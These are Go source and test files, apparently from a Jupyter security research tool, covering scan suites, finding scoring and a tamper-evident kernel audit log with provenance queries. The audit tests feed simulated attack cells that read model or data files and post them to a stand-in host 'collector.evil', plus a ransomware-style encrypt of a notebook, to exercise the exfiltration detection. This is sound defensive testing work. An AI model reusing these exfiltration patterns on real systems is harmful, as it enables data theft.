func TestChecksHaveUniqueIDs(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range Checks() {
		if seen[c.ID] {
			t.Errorf("duplicate check id %s", c.ID)
		}
		seen[c.ID] = true
		if c.Remediation == "" {
			t.Errorf("check %s lacks remediation", c.ID)
		}
	}
}
