package scan

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/posture"
	"repro/internal/vfs"
)

// Target is one scannable server as a suite sees it: the
// configuration its knobs imply, the address a live probe reaches it
// at, and (for in-process fleet members) a handle on its content
// filesystem for deep scans.
type Target struct {
	ID     string
	Addr   string // host:port; "" when no live endpoint is available
	Config posture.Config
	FS     *vfs.FS       // nil when the target's filesystem is unreachable
	Budget time.Duration // per-target probe budget; 0 = suite default
}

// Well-known Attrs keys suites use to report probe facts that the
// census surfaces as typed columns.
const (
	AttrReachable     = "reachable"
	AttrOpenAccess    = "open_access"
	AttrTerminalsOpen = "terminals_open"
	AttrWildcardCORS  = "wildcard_cors"
)

// Outcome is what one suite learned about one target.
type Outcome struct {
	Findings []Finding
	// Attrs carries suite-specific facts ("reachable"="true") folded
	// into the census result beside the findings.
	Attrs map[string]string
}

// Suite is one pluggable scanner subsystem.
type Suite interface {
	// Name is the registry key ("misconfig", "nbscan", "crypto",
	// "intel") users select with jscan --suites.
	Name() string
	// Description is one line for usage text and docs.
	Description() string
	// Run assesses one target. Implementations must be safe for
	// concurrent Run calls (sweeps run many targets in parallel) and
	// deterministic for a fixed target state.
	Run(ctx context.Context, t Target) (Outcome, error)
}

var (
	regMu    sync.RWMutex
	registry = map[string]Suite{}
)

// Register adds a suite to the registry. It panics on a duplicate
// name: suites self-register from init, so a collision is a
// programming error, not a runtime condition.
func Register(s Suite) {
	regMu.Lock()
	defer regMu.Unlock()
	name := s.Name()
	if name == "" {
		panic("scan: Register with empty suite name")
	}
	if _, dup := registry[name]; dup {
		panic("scan: duplicate suite " + name)
	}
	registry[name] = s
}

// Lookup returns the registered suite by name.
func Lookup(name string) (Suite, bool) {
	regMu.RLock()
	defer regMu.RUnlock()
	s, ok := registry[name]
	return s, ok
}

// Names returns all registered suite names, sorted.
func Names() []string {
	regMu.RLock()
	defer regMu.RUnlock()
	out := make([]string, 0, len(registry))
	for n := range registry {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// Resolve maps suite names to suites, deduplicating while preserving
// the caller's order. An unknown name fails fast with the known set,
// so a typo in --suites dies before any server is spawned.
func Resolve(names []string) ([]Suite, error) {
	var out []Suite
	seen := map[string]bool{}
	for _, n := range names {
		n = strings.TrimSpace(n)
		if n == "" || seen[n] {
			continue
		}
		seen[n] = true
		s, ok := Lookup(n)
		if !ok {
			return nil, fmt.Errorf("scan: unknown suite %q (known: %s)",
				n, strings.Join(Names(), ", "))
		}
		out = append(out, s)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("scan: no suites selected (known: %s)", strings.Join(Names(), ", "))
	}
	return out, nil
}
