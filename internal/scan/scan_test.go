package scan

import (
	"context"
	"reflect"
	"strings"
	"testing"

	"repro/internal/rules"
	"repro/internal/trace"
)

// TestSeverityWeightsPinned pins the shared severity→weight table.
// Every suite and the census report score through this one table; a
// change here silently rescales every historical census, so it must
// be deliberate.
func TestSeverityWeightsPinned(t *testing.T) {
	cases := []struct {
		sev  rules.Severity
		want float64
	}{
		{rules.SevCritical, 30},
		{rules.SevHigh, 15},
		{rules.SevMedium, 7},
		{rules.SevLow, 3},
		{rules.SevInfo, 0},
		{rules.Severity("nonsense"), 0},
	}
	for _, c := range cases {
		if got := Weight(c.sev); got != c.want {
			t.Errorf("Weight(%s) = %v, want %v", c.sev, got, c.want)
		}
	}
}

func TestScoreClampsAtZero(t *testing.T) {
	var fs []Finding
	for i := 0; i < 5; i++ {
		fs = append(fs, Finding{Severity: rules.SevCritical})
	}
	if got := Score(fs); got != 0 {
		t.Fatalf("Score(5x critical) = %v, want 0 (clamped)", got)
	}
	if got := Score(nil); got != 100 {
		t.Fatalf("Score(nil) = %v, want 100", got)
	}
	if got := Score([]Finding{{Severity: rules.SevHigh}, {Severity: rules.SevLow}}); got != 82 {
		t.Fatalf("Score(high+low) = %v, want 82", got)
	}
}

func TestMergeDedupsAcrossSuitesAndTargets(t *testing.T) {
	a := Finding{Suite: "misconfig", CheckID: "JPY-001", Severity: rules.SevCritical}
	b := Finding{Suite: "misconfig", CheckID: "JPY-001", Severity: rules.SevCritical, Evidence: "dup"}
	c := Finding{Suite: "nbscan", CheckID: "JPY-001", Severity: rules.SevLow} // same check id, other suite
	d := Finding{Suite: "nbscan", CheckID: "NB-x", Target: "a.ipynb", Severity: rules.SevLow}
	e := Finding{Suite: "nbscan", CheckID: "NB-x", Target: "b.ipynb", Severity: rules.SevLow}
	merged := Merge([]Finding{a, d}, []Finding{b, c, e})
	if len(merged) != 4 {
		t.Fatalf("merged %d findings, want 4: %+v", len(merged), merged)
	}
	if merged[0].Evidence == "dup" {
		t.Fatal("later duplicate overwrote first occurrence")
	}
	for i := 1; i < len(merged); i++ {
		if merged[i].Severity.Rank() > merged[i-1].Severity.Rank() {
			t.Fatalf("not sorted by severity: %+v", merged)
		}
	}
}

func TestSortCanonicalOrder(t *testing.T) {
	fs := []Finding{
		{Suite: "nbscan", CheckID: "NB-b", Severity: rules.SevLow},
		{Suite: "crypto", CheckID: "CRY-1", Severity: rules.SevLow},
		{Suite: "crypto", CheckID: "CRY-1", Target: "a", Severity: rules.SevLow},
		{Suite: "misconfig", CheckID: "JPY-001", Severity: rules.SevCritical},
	}
	Sort(fs)
	want := []string{"JPY-001", "CRY-1", "CRY-1", "NB-b"}
	for i, f := range fs {
		if f.CheckID != want[i] {
			t.Fatalf("order = %+v", fs)
		}
	}
	if fs[1].Target != "" || fs[2].Target != "a" {
		t.Fatalf("target tiebreak wrong: %+v", fs)
	}
}

func TestFindingEventProjection(t *testing.T) {
	f := Finding{
		Suite: "nbscan", CheckID: "NB-exfil-shape", Title: "t",
		Severity: rules.SevHigh, Class: rules.ClassExfiltration,
		Target: "notebooks/x.ipynb#c1", Evidence: "reads and posts",
	}
	e := f.Event()
	if e.Kind != trace.KindScanFinding {
		t.Fatalf("kind = %s", e.Kind)
	}
	if e.Target != f.Target || e.Detail != f.Evidence {
		t.Fatalf("event = %+v", e)
	}
	for field, want := range map[string]string{
		"suite": "nbscan", "check_id": "NB-exfil-shape",
		"severity": "high", "class": rules.ClassExfiltration, "title": "t",
	} {
		if got := rules.FieldValue(&e, field); got != want {
			t.Errorf("FieldValue(%s) = %q, want %q", field, got, want)
		}
	}
}

// fakeSuite is a registry test double.
type fakeSuite struct{ name string }

func (s fakeSuite) Name() string        { return s.name }
func (s fakeSuite) Description() string { return "fake" }
func (s fakeSuite) Run(context.Context, Target) (Outcome, error) {
	return Outcome{}, nil
}

func TestRegistryResolve(t *testing.T) {
	Register(fakeSuite{name: "fake-a"})
	Register(fakeSuite{name: "fake-b"})

	suites, err := Resolve([]string{"fake-b", "fake-a", "fake-b", " "})
	if err != nil {
		t.Fatal(err)
	}
	if len(suites) != 2 || suites[0].Name() != "fake-b" || suites[1].Name() != "fake-a" {
		t.Fatalf("resolve order/dedup wrong: %v", suites)
	}

	if _, err := Resolve([]string{"fake-a", "no-such-suite"}); err == nil ||
		!strings.Contains(err.Error(), "unknown suite") ||
		!strings.Contains(err.Error(), "fake-a") {
		t.Fatalf("unknown suite error = %v (should list known suites)", err)
	}
	if _, err := Resolve(nil); err == nil {
		t.Fatal("empty selection accepted")
	}

	names := Names()
	if !sortedContains(names, "fake-a") || !sortedContains(names, "fake-b") {
		t.Fatalf("Names() = %v", names)
	}
	if !reflect.DeepEqual(names, sortedCopy(names)) {
		t.Fatalf("Names() not sorted: %v", names)
	}

	defer func() {
		if recover() == nil {
			t.Fatal("duplicate Register did not panic")
		}
	}()
	Register(fakeSuite{name: "fake-a"})
}

func sortedContains(xs []string, want string) bool {
	for _, x := range xs {
		if x == want {
			return true
		}
	}
	return false
}

func sortedCopy(xs []string) []string {
	out := append([]string{}, xs...)
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] < out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}
