// Package scan is the unified assessment layer behind the paper's
// census: one Finding model shared by every scanner subsystem
// (misconfiguration audit, live probe, notebook deep scan, crypto
// inventory, threat-intel enrichment), a Suite interface those
// subsystems implement, and a pluggable registry the fleet sweep and
// the jscan CLI resolve suite names against.
//
// Findings also project onto the trace event model (Finding.Event),
// so a wide scan feeds the same rules/alerting pipeline as live
// monitoring: a census does not just report exposure, it raises
// alerts through the detection substrate.
package scan

import (
	"sort"

	"repro/internal/rules"
	"repro/internal/trace"
)

// Finding is one failed check from any suite: a configuration
// misstep, a live-probe exposure, an attack-shaped notebook cell, a
// quantum-vulnerable primitive, or a matched threat indicator.
type Finding struct {
	// Suite names the scanner subsystem that produced the finding.
	Suite string `json:"suite"`
	// CheckID identifies the check within its suite (JPY-*, PRB-*,
	// NB-*, CRY-*, TI-*). IDs are unique across suites by prefix.
	CheckID  string         `json:"check_id"`
	Title    string         `json:"title,omitempty"`
	Severity rules.Severity `json:"severity"`
	Class    string         `json:"class,omitempty"` // taxonomy class
	// Target pinpoints what failed inside the scanned server: a
	// notebook path and cell, a crypto primitive, an indicator value.
	// Empty for configuration-level findings.
	Target      string `json:"target,omitempty"`
	Evidence    string `json:"evidence,omitempty"`
	Remediation string `json:"remediation,omitempty"`
}

// Weight returns the hardening-score penalty for one severity — the
// single weighting table every suite and the census report share.
func Weight(sev rules.Severity) float64 {
	switch sev {
	case rules.SevCritical:
		return 30
	case rules.SevHigh:
		return 15
	case rules.SevMedium:
		return 7
	case rules.SevLow:
		return 3
	}
	return 0 // info and unknown severities carry no penalty
}

// Score converts findings into a 0-100 hardening score (100 = clean),
// summing severity weights and clamping at zero.
func Score(findings []Finding) float64 {
	penalty := 0.0
	for _, f := range findings {
		penalty += Weight(f.Severity)
	}
	if penalty > 100 {
		penalty = 100
	}
	return 100 - penalty
}

// SeverityCounts tallies findings per severity label — the histogram
// the fleet census aggregates across targets.
func SeverityCounts(findings []Finding) map[string]int {
	out := map[string]int{}
	for _, f := range findings {
		out[string(f.Severity)]++
	}
	return out
}

// SuiteCounts tallies findings per producing suite.
func SuiteCounts(findings []Finding) map[string]int {
	out := map[string]int{}
	for _, f := range findings {
		out[f.Suite]++
	}
	return out
}

// Sort orders findings canonically: severity descending, then suite,
// check ID, and target — the order every deterministic report walks.
func Sort(findings []Finding) {
	sort.SliceStable(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Severity.Rank() != b.Severity.Rank() {
			return a.Severity.Rank() > b.Severity.Rank()
		}
		if a.Suite != b.Suite {
			return a.Suite < b.Suite
		}
		if a.CheckID != b.CheckID {
			return a.CheckID < b.CheckID
		}
		return a.Target < b.Target
	})
}

// Merge combines finding lists, deduplicating by (suite, check,
// target) with the first occurrence winning, and restores canonical
// order. A sweep uses it to fold a live probe's findings into a
// target's static posture audit.
func Merge(lists ...[]Finding) []Finding {
	seen := map[string]bool{}
	var out []Finding
	for _, list := range lists {
		for _, f := range list {
			key := f.Suite + "\x00" + f.CheckID + "\x00" + f.Target
			if seen[key] {
				continue
			}
			seen[key] = true
			out = append(out, f)
		}
	}
	Sort(out)
	return out
}

// Event projects the finding onto the trace event model, so census
// findings flow through the same Stage/rules pipeline as live
// monitoring events. Suite, check, class, severity, and title ride in
// Fields, where rule conditions reach them by name.
func (f Finding) Event() trace.Event {
	return trace.Event{
		Kind:    trace.KindScanFinding,
		Target:  f.Target,
		Detail:  f.Evidence,
		Success: false,
		Fields: map[string]string{
			"suite":    f.Suite,
			"check_id": f.CheckID,
			"severity": string(f.Severity),
			"class":    f.Class,
			"title":    f.Title,
		},
	}
}
