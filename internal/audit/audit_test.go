package audit

import (
	"errors"
	"strings"
	"testing"
	"time"

	"repro/internal/kernel"
	"repro/internal/trace"
	"repro/internal/vfs"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func TestHashChainIntegrity(t *testing.T) {
	log := NewLog(trace.NewFakeClock(t0))
	log.Append("k1", "alice", "exec", "", "print(1)", 8, true)
	log.Append("k1", "alice", "read", "data/a.csv", "", 100, true)
	log.Append("k1", "alice", "write", "out.txt", "", 50, true)
	if err := log.VerifyLog(); err != nil {
		t.Fatal(err)
	}
	if log.Len() != 3 || log.Head() == "genesis" {
		t.Fatalf("len=%d head=%s", log.Len(), log.Head())
	}
}

func TestHashChainTamper(t *testing.T) {
	log := NewLog(trace.NewFakeClock(t0))
	for i := 0; i < 10; i++ {
		log.Append("k1", "alice", "write", "f", "", i, true)
	}
	records := log.Records()

	// Mutating any record's content is detected at that record.
	for i := range records {
		tampered := make([]Record, len(records))
		copy(tampered, records)
		tampered[i].Target = "covered-tracks"
		if got := Verify(tampered); got != i {
			t.Errorf("tamper at %d detected at %d", i, got)
		}
	}
	// Deleting a middle record breaks the chain at the splice point.
	spliced := append(append([]Record{}, records[:4]...), records[5:]...)
	if got := Verify(spliced); got != 4 {
		t.Errorf("deletion detected at %d, want 4", got)
	}
	// Reordering is detected.
	swapped := make([]Record, len(records))
	copy(swapped, records)
	swapped[2], swapped[3] = swapped[3], swapped[2]
	if got := Verify(swapped); got != 2 {
		t.Errorf("reorder detected at %d, want 2", got)
	}
}

func TestVerifyEmptyAndIntact(t *testing.T) {
	if Verify(nil) != -1 {
		t.Fatal("empty chain invalid")
	}
	log := NewLog(nil)
	log.Append("k", "u", "exec", "", "", 0, true)
	if err := log.VerifyLog(); err != nil {
		t.Fatal(err)
	}
	recs := log.Records()
	recs[0].Prev = "wrong"
	if !errors.Is(func() error {
		if i := Verify(recs); i >= 0 {
			return ErrChainBroken
		}
		return nil
	}(), ErrChainBroken) {
		t.Fatal("bad prev accepted")
	}
}

func TestMarshalJSONL(t *testing.T) {
	log := NewLog(trace.NewFakeClock(t0))
	log.Append("k1", "u", "exec", "", "code", 4, true)
	out := string(MarshalJSONL(log.Records()))
	if !strings.Contains(out, `"op":"exec"`) || !strings.HasSuffix(out, "\n") {
		t.Fatalf("jsonl = %q", out)
	}
}

// tracedSession runs code in an audited kernel and returns the log.
func tracedSession(t *testing.T, code string) (*Log, *vfs.FS) {
	t.Helper()
	clock := trace.NewFakeClock(t0)
	log := NewLog(clock)
	tracer := NewTracer(log)
	fs := vfs.New(vfs.WithClock(clock))
	_ = fs.Write("data/train.csv", "setup", []byte("a,b\n1,2\n"))
	_ = fs.Write("models/w.bin", "setup", []byte(strings.Repeat("W", 8192)))
	mgr := kernel.NewManager(kernel.Config{
		FS: fs, Clock: clock,
		Gateway: kernel.GatewayFunc(func(m, u string, b []byte) (int, []byte, error) {
			return 200, []byte("ok"), nil
		}),
		HostWrapper: tracer.WrapHost,
		ExecHook: func(kernelID, user, code string) {
			tracer.RecordExec(kernelID, user, code)
		},
	})
	k := mgr.Start("", "mallory")
	res, err := k.Execute(code, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "ok" {
		t.Fatalf("execution failed: %s: %s", res.EName, res.EValue)
	}
	return log, fs
}

func TestKernelInstrumentation(t *testing.T) {
	log, _ := tracedSession(t, `data = read_file("data/train.csv")
write_file("out/copy.csv", data)`)
	if err := log.VerifyLog(); err != nil {
		t.Fatal(err)
	}
	var ops []string
	for _, r := range log.Records() {
		ops = append(ops, r.Op)
	}
	want := "exec,read,write"
	if strings.Join(ops, ",") != want {
		t.Fatalf("ops = %v", ops)
	}
	for _, r := range log.Records() {
		if r.User != "mallory" || r.KernelID == "" {
			t.Fatalf("attribution = %+v", r)
		}
	}
}

func TestProvenanceWhoTouched(t *testing.T) {
	log, _ := tracedSession(t, `write_file("victim.ipynb", encrypt("contents", "key"))`)
	p := BuildProvenance(log.Records())
	execs := p.WhoTouched("victim.ipynb")
	if len(execs) != 1 {
		t.Fatalf("execs = %+v", execs)
	}
	if !strings.Contains(execs[0].Detail, "encrypt(") {
		t.Fatalf("exec detail = %q", execs[0].Detail)
	}
}

func TestProvenanceBlastRadius(t *testing.T) {
	log, _ := tracedSession(t, `data = read_file("data/train.csv")
write_file("a.txt", data)
write_file("b.txt", data)
http_post("http://collector.evil/drop", data)`)
	p := BuildProvenance(log.Records())
	execSeq := log.Records()[0].Seq
	edges := p.Reached(execSeq)
	if len(edges) != 4 {
		t.Fatalf("edges = %+v", edges)
	}
	kinds := map[NodeKind]int{}
	for _, e := range edges {
		kinds[e.Kind]++
	}
	if kinds[NodeFile] != 3 || kinds[NodeRemote] != 1 {
		t.Fatalf("kinds = %v", kinds)
	}
}

func TestProvenanceExfiltrationQuery(t *testing.T) {
	log, _ := tracedSession(t, `w = read_file("models/w.bin")
http_post("http://collector.evil/drop", w)`)
	p := BuildProvenance(log.Records())
	flows := p.Exfiltrated()
	endpoints, ok := flows["models/w.bin"]
	if !ok || len(endpoints) != 1 || endpoints[0] != "http://collector.evil/drop" {
		t.Fatalf("flows = %+v", flows)
	}
}

func TestProvenanceSeparatesExecutions(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	log := NewLog(clock)
	tracer := NewTracer(log)
	fs := vfs.New(vfs.WithClock(clock))
	_ = fs.Write("f1", "s", []byte("x"))
	mgr := kernel.NewManager(kernel.Config{
		FS: fs, Clock: clock,
		HostWrapper: tracer.WrapHost,
		ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
	})
	k := mgr.Start("", "u")
	if _, err := k.Execute(`x = read_file("f1")`, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := k.Execute(`write_file("f2", "y")`, nil); err != nil {
		t.Fatal(err)
	}
	p := BuildProvenance(log.Records())
	// f1 readers and f2 writers must be different executions.
	r1 := p.WhoTouched("f1")
	r2 := p.WhoTouched("f2")
	if len(r1) != 1 || len(r2) != 1 || r1[0].Seq == r2[0].Seq {
		t.Fatalf("r1=%+v r2=%+v", r1, r2)
	}
}

func TestSummarize(t *testing.T) {
	log, _ := tracedSession(t, `data = read_file("data/train.csv")
write_file("out.txt", data)
delete_file("out.txt")
http_post("http://x/", data)`)
	sums := Summarize(log.Records())
	if len(sums) != 1 {
		t.Fatalf("summaries = %+v", sums)
	}
	for _, s := range sums {
		if s.Executions != 1 || s.Reads != 1 || s.Writes != 1 || s.Deletes != 1 || s.NetOps != 1 {
			t.Fatalf("summary = %+v", s)
		}
	}
}

func TestFailedOpsRecorded(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	log := NewLog(clock)
	tracer := NewTracer(log)
	mgr := kernel.NewManager(kernel.Config{
		Clock:       clock,
		HostWrapper: tracer.WrapHost,
		ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
	})
	k := mgr.Start("", "u")
	res, _ := k.Execute(`read_file("does/not/exist")`, nil)
	if res.Status != "error" {
		t.Fatal("read should fail")
	}
	var found bool
	for _, r := range log.Records() {
		if r.Op == "read" && !r.OK && strings.Contains(r.Detail, "not found") {
			found = true
		}
	}
	if !found {
		t.Fatalf("failed read not recorded: %+v", log.Records())
	}
}

func TestExecDetailTruncated(t *testing.T) {
	log := NewLog(nil)
	tracer := NewTracer(log)
	tracer.RecordExec("k", "u", strings.Repeat("x", 2000))
	r := log.Records()[0]
	if len(r.Detail) != 512 || r.Bytes != 2000 {
		t.Fatalf("detail len=%d bytes=%d", len(r.Detail), r.Bytes)
	}
}
