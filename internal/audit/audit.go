// Package audit implements the paper's proposed Jupyter kernel
// auditing tool: an embedded tracer that records every command a
// kernel executes together with the file, network, and shell
// operations it performs, in a hash-chained tamper-evident log, and
// builds a provenance graph (execution -> artifact) for incident
// response queries.
//
// The tracer installs as a kernel.HostWrapper, so it sits *inside* the
// kernel process exactly as the paper recommends ("an embedded tracing
// tool must be embedded in Jupyter kernel").
package audit

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"repro/internal/kernel/minilang"
	"repro/internal/trace"
)

// Record is one audit log entry. Prev/Hash form the tamper-evidence
// chain: Hash = SHA-256(Prev || canonical-JSON(body)).
type Record struct {
	Seq      uint64    `json:"seq"`
	Time     time.Time `json:"time"`
	KernelID string    `json:"kernel_id"`
	User     string    `json:"user"`
	Op       string    `json:"op"` // exec|read|write|delete|rename|list|net|shell|env
	Target   string    `json:"target,omitempty"`
	Detail   string    `json:"detail,omitempty"`
	Bytes    int       `json:"bytes,omitempty"`
	OK       bool      `json:"ok"`
	Prev     string    `json:"prev"`
	Hash     string    `json:"hash"`
}

// body is the hashed portion of a record.
func (r *Record) body() []byte {
	b, err := json.Marshal(struct {
		Seq      uint64    `json:"seq"`
		Time     time.Time `json:"time"`
		KernelID string    `json:"kernel_id"`
		User     string    `json:"user"`
		Op       string    `json:"op"`
		Target   string    `json:"target"`
		Detail   string    `json:"detail"`
		Bytes    int       `json:"bytes"`
		OK       bool      `json:"ok"`
	}{r.Seq, r.Time, r.KernelID, r.User, r.Op, r.Target, r.Detail, r.Bytes, r.OK})
	if err != nil {
		panic("audit: marshal record body: " + err.Error())
	}
	return b
}

func chainHash(prev string, body []byte) string {
	h := sha256.New()
	h.Write([]byte(prev))
	h.Write(body)
	return hex.EncodeToString(h.Sum(nil))
}

// Errors.
var (
	ErrChainBroken = errors.New("audit: hash chain broken")
)

// Log is the tamper-evident audit log.
type Log struct {
	mu      sync.Mutex
	records []Record
	last    string
	clock   trace.Clock
}

// NewLog returns an empty log stamped by clock (RealClock if nil).
func NewLog(clock trace.Clock) *Log {
	if clock == nil {
		clock = trace.RealClock{}
	}
	return &Log{clock: clock, last: "genesis"}
}

// Append adds a record, computing its chain hash.
func (l *Log) Append(kernelID, user, op, target, detail string, bytes int, ok bool) Record {
	l.mu.Lock()
	defer l.mu.Unlock()
	r := Record{
		Seq: uint64(len(l.records) + 1), Time: l.clock.Now(),
		KernelID: kernelID, User: user, Op: op, Target: target,
		Detail: detail, Bytes: bytes, OK: ok, Prev: l.last,
	}
	r.Hash = chainHash(r.Prev, r.body())
	l.last = r.Hash
	l.records = append(l.records, r)
	return r
}

// Records returns a copy of all records.
func (l *Log) Records() []Record {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Record, len(l.records))
	copy(out, l.records)
	return out
}

// Len returns the record count.
func (l *Log) Len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.records)
}

// Head returns the latest chain hash (sign this with cryptoaudit's
// one-time signatures to checkpoint the log).
func (l *Log) Head() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.last
}

// Verify walks the chain and returns the index of the first corrupted
// record, or -1 if the chain is intact.
func Verify(records []Record) int {
	prev := "genesis"
	for i := range records {
		r := &records[i]
		if r.Prev != prev {
			return i
		}
		if chainHash(r.Prev, r.body()) != r.Hash {
			return i
		}
		prev = r.Hash
	}
	return -1
}

// VerifyLog verifies the log in place.
func (l *Log) VerifyLog() error {
	if i := Verify(l.Records()); i >= 0 {
		return fmt.Errorf("%w at record %d", ErrChainBroken, i)
	}
	return nil
}

// MarshalJSONL serializes records as JSON lines.
func MarshalJSONL(records []Record) []byte {
	var out []byte
	for i := range records {
		b, err := json.Marshal(&records[i])
		if err != nil {
			continue
		}
		out = append(out, b...)
		out = append(out, '\n')
	}
	return out
}

// ---- Provenance graph ----

// NodeKind classifies provenance graph nodes.
type NodeKind string

// Provenance node kinds.
const (
	NodeExec   NodeKind = "execution"
	NodeFile   NodeKind = "file"
	NodeRemote NodeKind = "remote_endpoint"
	NodeShell  NodeKind = "shell_command"
)

// Edge is one provenance relation: an execution read/wrote/contacted
// an artifact.
type Edge struct {
	ExecSeq  uint64   `json:"exec_seq"` // audit seq of the exec record
	Relation string   `json:"relation"` // read|wrote|deleted|contacted|ran
	Kind     NodeKind `json:"kind"`
	Target   string   `json:"target"`
	Bytes    int      `json:"bytes,omitempty"`
}

// Provenance indexes audit records into a queryable graph.
type Provenance struct {
	Edges []Edge
	// execMeta maps exec seq -> (user, kernel, code detail).
	execMeta map[uint64]Record
}

// BuildProvenance derives the graph from an audit record stream: every
// non-exec record is attributed to the most recent exec record of the
// same kernel.
func BuildProvenance(records []Record) *Provenance {
	p := &Provenance{execMeta: map[uint64]Record{}}
	lastExec := map[string]uint64{} // kernel -> exec seq
	for _, r := range records {
		if r.Op == "exec" {
			lastExec[r.KernelID] = r.Seq
			p.execMeta[r.Seq] = r
			continue
		}
		execSeq := lastExec[r.KernelID]
		if execSeq == 0 {
			continue // operation outside any traced execution
		}
		var rel string
		var kind NodeKind
		switch r.Op {
		case "read":
			rel, kind = "read", NodeFile
		case "write":
			rel, kind = "wrote", NodeFile
		case "delete":
			rel, kind = "deleted", NodeFile
		case "rename":
			rel, kind = "wrote", NodeFile
		case "net":
			rel, kind = "contacted", NodeRemote
		case "shell":
			rel, kind = "ran", NodeShell
		case "list":
			rel, kind = "read", NodeFile
		default:
			continue
		}
		p.Edges = append(p.Edges, Edge{
			ExecSeq: execSeq, Relation: rel, Kind: kind,
			Target: r.Target, Bytes: r.Bytes,
		})
	}
	return p
}

// WhoTouched returns the exec records whose executions read, wrote, or
// deleted the target — the core incident-response query ("which cell
// encrypted this notebook?").
func (p *Provenance) WhoTouched(target string) []Record {
	seen := map[uint64]bool{}
	var out []Record
	for _, e := range p.Edges {
		if e.Target == target && e.Kind == NodeFile && !seen[e.ExecSeq] {
			seen[e.ExecSeq] = true
			if meta, ok := p.execMeta[e.ExecSeq]; ok {
				out = append(out, meta)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Seq < out[j].Seq })
	return out
}

// Reached returns every artifact an execution touched — the blast
// radius query ("what else did the malicious cell touch?").
func (p *Provenance) Reached(execSeq uint64) []Edge {
	var out []Edge
	for _, e := range p.Edges {
		if e.ExecSeq == execSeq {
			out = append(out, e)
		}
	}
	return out
}

// Exfiltrated pairs read files with subsequently contacted endpoints
// inside the same execution — the data-flow query behind exfiltration
// forensics.
func (p *Provenance) Exfiltrated() map[string][]string {
	readsByExec := map[uint64][]string{}
	contactsByExec := map[uint64][]string{}
	for _, e := range p.Edges {
		switch {
		case e.Relation == "read" && e.Kind == NodeFile:
			readsByExec[e.ExecSeq] = append(readsByExec[e.ExecSeq], e.Target)
		case e.Relation == "contacted":
			contactsByExec[e.ExecSeq] = append(contactsByExec[e.ExecSeq], e.Target)
		}
	}
	out := map[string][]string{}
	for execSeq, endpoints := range contactsByExec {
		for _, f := range readsByExec[execSeq] {
			out[f] = append(out[f], endpoints...)
		}
	}
	return out
}

// ---- Kernel instrumentation ----

// Tracer wraps kernel hosts to feed the audit log. One Tracer serves
// all kernels of a manager.
type Tracer struct {
	Log *Log
	mu  sync.Mutex
	// CurrentUser/Kernel attribution is set per wrapped host.
}

// NewTracer returns a tracer writing to log.
func NewTracer(log *Log) *Tracer {
	return &Tracer{Log: log}
}

// WrapHost is a kernel.HostWrapper: assign it to kernel.Config's
// HostWrapper field to audit every kernel the manager starts.
func (t *Tracer) WrapHost(kernelID, user string, inner minilang.Host) minilang.Host {
	return &tracedHost{inner: inner, log: t.Log, kernelID: kernelID, user: user}
}

// RecordExec logs the execution of a code unit; call before Execute so
// subsequent operation records attribute to it.
func (t *Tracer) RecordExec(kernelID, user, code string) Record {
	detail := code
	if len(detail) > 512 {
		detail = detail[:512]
	}
	return t.Log.Append(kernelID, user, "exec", "", detail, len(code), true)
}

type tracedHost struct {
	inner    minilang.Host
	log      *Log
	kernelID string
	user     string
}

func (h *tracedHost) ReadFile(path string) ([]byte, error) {
	data, err := h.inner.ReadFile(path)
	h.log.Append(h.kernelID, h.user, "read", path, errStr(err), len(data), err == nil)
	return data, err
}

func (h *tracedHost) WriteFile(path string, data []byte) error {
	err := h.inner.WriteFile(path, data)
	h.log.Append(h.kernelID, h.user, "write", path, errStr(err), len(data), err == nil)
	return err
}

func (h *tracedHost) DeleteFile(path string) error {
	err := h.inner.DeleteFile(path)
	h.log.Append(h.kernelID, h.user, "delete", path, errStr(err), 0, err == nil)
	return err
}

func (h *tracedHost) RenameFile(oldPath, newPath string) error {
	err := h.inner.RenameFile(oldPath, newPath)
	h.log.Append(h.kernelID, h.user, "rename", oldPath, "-> "+newPath, 0, err == nil)
	return err
}

func (h *tracedHost) ListFiles(dir string) ([]string, error) {
	names, err := h.inner.ListFiles(dir)
	h.log.Append(h.kernelID, h.user, "list", dir, errStr(err), len(names), err == nil)
	return names, err
}

func (h *tracedHost) HTTPRequest(method, url string, body []byte) (int, []byte, error) {
	status, resp, err := h.inner.HTTPRequest(method, url, body)
	h.log.Append(h.kernelID, h.user, "net", url, method, len(body), err == nil)
	_ = status
	return status, resp, err
}

func (h *tracedHost) Shell(cmd string) (string, error) {
	out, err := h.inner.Shell(cmd)
	h.log.Append(h.kernelID, h.user, "shell", cmd, errStr(err), len(out), err == nil)
	return out, err
}

func (h *tracedHost) Spin(cpuMillis int64) { h.inner.Spin(cpuMillis) }

func (h *tracedHost) Hostname() string { return h.inner.Hostname() }

func (h *tracedHost) Env(name string) string {
	v := h.inner.Env(name)
	h.log.Append(h.kernelID, h.user, "env", name, "", len(v), true)
	return v
}

func errStr(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// SessionSummary aggregates a kernel's audited activity.
type SessionSummary struct {
	KernelID   string
	Executions int
	Reads      int
	Writes     int
	Deletes    int
	NetOps     int
	ShellOps   int
	BytesRead  int
	BytesWrote int
}

// Summarize groups records per kernel.
func Summarize(records []Record) map[string]*SessionSummary {
	out := map[string]*SessionSummary{}
	for _, r := range records {
		s := out[r.KernelID]
		if s == nil {
			s = &SessionSummary{KernelID: r.KernelID}
			out[r.KernelID] = s
		}
		switch r.Op {
		case "exec":
